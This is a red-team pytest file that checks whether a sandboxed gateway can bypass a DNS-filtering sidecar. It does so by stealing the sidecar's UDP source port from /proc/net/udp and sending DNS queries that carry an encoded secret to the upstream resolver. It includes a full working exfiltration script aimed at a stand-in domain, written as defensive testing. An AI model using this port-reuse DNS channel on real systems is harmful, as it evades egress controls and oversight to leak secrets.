"""RT-1b: the quiet variant of RT-1. The gateway reads /proc/net/udp (the pod's network
namespace is shared, so every socket of the sidecar is listed with its UID) while it makes
the sidecar resolve an allowed name, learns the source port of the sidecar's query to the
upstream resolver, and reuses it once the sidecar closes the socket: one datagram, no
sweep, no refused question, no decision line of its own (the trigger, a TLS hello without
a request, gets one protocol_not_allowed line). The channel then stays open as long as
the gateway keeps sending (each datagram refreshes the conntrack entry): 4 more
questions 12 s apart all reach the upstream resolver.

Run: .venv/bin/pytest redteam/pod/test_conntrack_quiet.py -s -p no:cacheprovider
"""
import json
import time

from tests.support.netns import child_python

QUIET = r'''
import json, random, socket, struct, sys, threading, time
def hexaddr(ip, port):
    return "".join("%02X" % int(b) for b in reversed(ip.split("."))) + ":%04X" % port
want = hexaddr("10.77.0.2", 53)
def q(name, qtype=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", qtype, 1)
seen = set(); stop = time.monotonic() + 4
def poll():
    while time.monotonic() < stop:
        for line in open("/proc/net/udp").read().splitlines()[1:]:
            f = line.split()
            port = int(f[1].split(":")[1], 16)
            if f[7] == "1337" and port != 15053:
                seen.add(port)
t = threading.Thread(target=poll); t.start()
time.sleep(0.2)
# trigger: a TLS ClientHello for the allowed name makes the sidecar resolve it
ctx = __import__("ssl").create_default_context(); ctx.check_hostname = False; ctx.verify_mode = 0
try:
    s = socket.create_connection(("10.77.0.2", 443), timeout=3)
    ctx.wrap_socket(s, server_hostname="api.openai.com").close()
except Exception as e:
    pass
t.join()
res = {"sidecar_ports": sorted(seen), "answers": {}}
for port in sorted(seen):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    try:
        u.bind(("0.0.0.0", port))
        u.sendto(q("exfil-" + sys.argv[1] + ".only-upstream.example"), ("10.77.0.2", 53))
        u.sendto(q("only-upstream.example"), ("10.77.0.2", 53))
        a = u.recv(512); b = u.recv(512)
        res["answers"][port] = [a[3] & 0xF, b[3] & 0xF, ".".join(str(x) for x in b[-4:])]
    except OSError as e:
        res["answers"][port] = repr(e)
    u.close()
# the channel outlives the conntrack UDP timeout (30 s): each datagram refreshes it
if seen and len(sys.argv) > 2:
    port = sorted(seen)[0]; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    u.bind(("0.0.0.0", port)); res["later"] = []
    for i in range(int(sys.argv[2])):
        time.sleep(12)
        u.sendto(q("later%d-%s.only-upstream.example" % (i, sys.argv[1])), ("10.77.0.2", 53))
        try: res["later"].append([round(time.monotonic() - stop, 1), u.recv(512)[3] & 0xF])
        except OSError as e: res["later"].append(repr(e))
print(json.dumps(res))
'''


def test_quiet_reuse(world):
    time.sleep(6)  # cached answer expires (TTL 5 s)
    (world.work / "quiet.py").write_text(QUIET)
    before = len(world.upstream.questions)
    mark = world.mark()
    proc = world.run(child_python(), str(world.work / "quiet.py"), "c2VjcmV0", "4", timeout=90)
    print(proc.stdout, proc.stderr[-1000:])
    asked = world.upstream.questions[before:]
    lines = world.sidecar.decisions[mark.decisions:]
    print("upstream resolver saw:", asked)
    print("decision lines:", [(d["reason"], d.get("host")) for d in lines])
    leaked = [n for n, _ in asked if n != "api.openai.com"]
    assert not leaked, f"gateway reached the upstream resolver directly: {leaked}"
